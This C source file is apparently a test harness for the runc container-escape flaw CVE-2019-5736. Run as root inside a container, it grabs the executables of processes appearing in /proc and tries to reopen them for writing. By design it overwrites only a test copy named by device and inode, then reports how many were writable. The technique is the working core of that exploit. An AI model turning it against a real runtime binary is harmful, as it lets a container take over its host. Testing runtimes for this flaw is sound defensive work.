/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite.c - a container's root that wants the runtime's binary (CVE-2019-5736).
 *
 *   overwrite SECONDS DEVICE INODE FILE...
 *
 * Holds on to the executable of every process that appears, except itself and the
 * FILEs, which are the container's own, and tries to open it for writing until the
 * file is no longer busy. The one that DEVICE and INODE name, a copy for the test, it
 * overwrites, and no other: this must harm nobody when it works. At the end, in one
 * line: how many executables it held, how many it could open for writing, and the
 * errors of the others.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 512
#define OWN_MAX  16

static struct held {
	int fd;
	dev_t dev;
	ino_t ino;
	int error; /* of the last try to open it for writing */
} held[HELD_MAX];
static size_t n_held;
static unsigned long writable;
static unsigned long long target_dev, target_ino;

static struct stat own[OWN_MAX];
static size_t n_own;

static int is_own(const struct stat *st)
{
	for (size_t i = 0; i < n_own; i++) {
		if (own[i].st_dev == st->st_dev && own[i].st_ino == st->st_ino)
			return 1;
	}
	return 0;
}

static int is_held(const struct stat *st)
{
	for (size_t i = 0; i < n_held; i++) {
		if (held[i].dev == st->st_dev && held[i].ino == st->st_ino)
			return 1;
	}
	return 0;
}

static void hold(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_own(&st) || is_held(&st) || n_held == HELD_MAX) {
		close(fd);
		return;
	}
	held[n_held++] = (struct held){ fd, st.st_dev, st.st_ino, 0 };
}

static void try_to_write(struct held *h)
{
	static const char text[] = "#!/overwritten\n";
	char path[64];
	int fd;

	if (h->fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		h->error = errno;
		return;
	}
	if (h->dev == target_dev && h->ino == target_ino &&
	    write(fd, text, sizeof(text) - 1) < 0)
		h->error = errno;
	writable++;
	close(fd);
	close(h->fd);
	h->fd = -1;
}

static void say_errors(void)
{
	int known[8];
	size_t n = 0;

	for (size_t i = 0; i < n_held; i++) {
		size_t k;

		if (held[i].fd < 0)
			continue;
		for (k = 0; k < n && known[k] != held[i].error; k++)
			;
		if (k < n || n == sizeof(known) / sizeof(*known))
			continue;
		known[n++] = held[i].error;
		printf(" %s", strerrorname_np(held[i].error));
	}
	puts("");
}

static void learn_own(int argc, char **argv)
{
	if (stat("/proc/self/exe", &own[n_own]) == 0)
		n_own++;
	for (int i = 4; i < argc && n_own < OWN_MAX; i++) {
		if (stat(argv[i], &own[n_own]) == 0)
			n_own++;
	}
}

int main(int argc, char **argv)
{
	struct timespec now, end;
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	if (argc < 4 || !proc) {
		fprintf(stderr, "usage: overwrite SECONDS DEVICE INODE FILE...\n");
		return 2;
	}
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += strtol(argv[1], NULL, 10);
	target_dev = strtoull(argv[2], NULL, 10);
	target_ino = strtoull(argv[3], NULL, 10);
	learn_own(argc, argv);
	puts("begun");
	fflush(stdout);
	do {
		rewinddir(proc);
		while ((entry = readdir(proc))) {
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				hold(entry->d_name);
		}
		for (size_t i = 0; i < n_held; i++)
			try_to_write(&held[i]);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec && access("/end", F_OK) < 0);
	printf("held=%zu writable=%lu", n_held, writable);
	say_errors();
	return 0;
}
